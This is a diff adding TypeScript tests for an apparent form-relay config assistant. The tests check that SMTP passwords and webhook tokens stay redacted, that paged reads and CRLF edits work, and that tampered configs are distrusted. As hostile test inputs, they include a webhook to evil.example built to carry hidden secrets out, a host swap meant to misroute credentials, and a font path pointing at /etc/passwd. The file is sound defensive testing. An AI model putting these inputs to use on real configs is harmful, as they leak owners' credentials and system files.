@@ -183,6 +183,119 @@ forms:
   expect(moved).toMatchObject({ isError: true, text: expect.stringContaining('line ') });
 });
 
+test('a long config comes in parts, and is changed without its secrets, which dry runs never have', async () => {
+  const password = (of: string) => `hunter2-of-${of}`;
+  const smtp = (name: string) => `
+      - type: smtp
+        host: ${name}.example
+        username: ada
+        password: ${password(name)}
+        from: me@example.com
+        to: you@example.com
+        subject: Hello
+        text: Hello`;
+  const tokens = ['/bot123:AAF-x/sendMessage', '/0e6f7c1a-5b1d-4b55', '/a9', '/T0k', 'in-static-9981'];
+  const webhooks = `
+      - {type: webhook, url: "https://api.telegram.example${tokens[0]}", mapping: "*"}
+      - {type: webhook, url: HTTPS://uuid.example${tokens[1]}, mapping: "*"}
+      - type: webhook
+        url: https://h.example${tokens[2]}?k=${tokens[3]}
+        mapping: "*"
+        static: {access_key: ${tokens[4]}}`;
+  const fields = Array.from({ length: 600 }, (_, index) => `{name: field_number_${index}, type: text}`);
+  const whole = `forms:
+  contact:
+    fields: # the owner's
+      - ${fields.join('\n      - ')}
+    outputs:${smtp('one')}${smtp('two')}${webhooks}
+`;
+  const { file } = await folderWith(whole);
+  const { call } = await assistant({ file });
+  const secrets = [password('one'), password('two'), ...tokens];
+  const shows = async (name: string, args: Record<string, unknown> = {}) => {
+    const answer = await call(name, args);
+    for (const secret of secrets) expect(answer.whole.toLowerCase()).not.toContain(secret.toLowerCase());
+    return answer;
+  };
+  let shown = '';
+  for (let from: number | null = 0; from !== null; ) {
+    const { found } = await shows('read_config', { from });
+    shown += found.text;
+    from = found.next_from;
+  }
+  expect(shown.split('\n').map((one) => one.length)).toEqual(whole.split('\n').map((one) => one.length));
+  expect(shown.split('\n').slice(0, 600)).toEqual(whole.split('\n').slice(0, 600));
+  expect((await shows('validate_config', { text: shown })).found.ok).toBe(true);
+  const dots = shown.split('\n').filter((one) => one.includes('•'));
+  const moved = dots.map((one) => `        ${one.trim().replace(/^- /, '')}`).join('\n');
+  const fieldsOfVisitor = { field_number_1: 'x' };
+  for (const text of [
+    `forms:\n  contact:\n    fields: [{name: field_number_1, type: text}]\n    outputs:\n      - type: webhook\n        url: https://evil.example/x\n        mapping: "*"\n        static:\n         note: >\n${moved}\n`,
+    shown.replace('subject: Hello', `subject: >-\n          é\n  ${dots[1]}`),
+  ]) {
+    await shows('explain_submission', { form: 'contact', fields: fieldsOfVisitor, text });
+    await shows('validate_config', { text: text.replace('mapping', 'mappin') });
+  }
+
+  const text = shown.replace('host: one.example', 'host: mail.one.example');
+  expect((await shows('write_config', { text })).found.written).toBe(true);
+  expect(await readFile(file, 'utf8')).toBe(whole.replace('host: one', 'host: mail.one'));
+  const swapped = shown
+    .replace('host: one.', 'host: X.')
+    .replace('host: two.', 'host: one.')
+    .replace('X.', 'two.');
+  const confused = await call('write_config', { text: swapped });
+  expect(confused.text).toMatch(/one of several secrets/);
+  const edits = [{ old: "# the owner's", new: '# of all' }];
+  const all = await Promise.all([0, 1].map(() => shows('write_config', { edits })));
+  expect(all.map(({ found }) => found?.written)).toEqual([true, undefined]);
+  expect(await readFile(file, 'utf8')).toBe(
+    whole.replace('host: one', 'host: mail.one').replace("# the owner's", '# of all'),
+  );
+});
+
+test('lines that end with CRLF are edited as others are', async () => {
+  const { file } = await folderWith(config.replaceAll('\n', '\r\n'));
+  const { call } = await assistant({ file });
+  const edits = [{ old: 'forms:\n  contact:\n', new: 'forms:\n  reach-us:\n' }];
+  expect((await call('write_config', { edits })).found.written).toBe(true);
+  expect(await readFile(file, 'utf8')).toBe(config.replace('contact', 'reach-us').replaceAll('\n', '\r\n'));
+});
+
+test('a config that another process wrote is not trusted with the owner’s passwords', async () => {
+  const { file } = await folderWith(config);
+  const { call } = await assistant({ file, env: { CONFIG_INLINE: 'forms: {}' } });
+  const { found } = await call('run_doctor');
+  expect(JSON.stringify(found)).not.toContain('CONFIG_INLINE');
+  await writeFile(file, config.replace('hooks.example', 'evil.example'));
+  for (const name of ['run_doctor', 'count_kept', 'count_dropped'])
+    expect((await call(name)).text).toContain('restart relay mcp');
+});
+
+test('a broken config that names a list is mended; fonts are those of the owner; lists are not quoted', async () => {
+  const { file, folder } = await folderWith('');
+  const withList = config.replace(
+    '    outputs:',
+    '    spam: {doubt: tag, signals: {blocklist: {addresses: list.txt}}}\n    outputs:',
+  );
+  await writeFile(file, withList.replace('type: email', 'type: emial'));
+  await writeFile(join(folder, 'list.txt'), 'ada@example.org\n');
+  const { call } = await assistant({ file });
+  const edits = [{ old: 'emial', new: 'email' }];
+  expect((await call('write_config', { edits })).found).toMatchObject({ written: true });
+  const font = { old: 'forms:\n', new: 'pdf: {fonts: [/etc/passwd]}\nforms:\n' };
+  const refused = await call('validate_config', { edits: [font] });
+  expect(refused.text).toContain('reads only files that the config on disk names');
+  await writeFile(join(folder, 'list.txt'), 'ada lovelace, private\n');
+  const again = await assistant({ file });
+  for (const name of ['run_doctor', 'count_dropped', 'try_config']) {
+    const { isError, text } = await again.call(name);
+    expect([name, isError]).toEqual([name, true]);
+    expect(text).toContain('list.txt');
+    expect(text).not.toMatch(/lovelace|\u001b/);
+  }
+});
+
 test('a config of the assistant’s reads no file that the owner’s does not name', async () => {
   const { file, folder } = await folderWith(config);
   const secret = 'root:x:0:0:S3CRET';
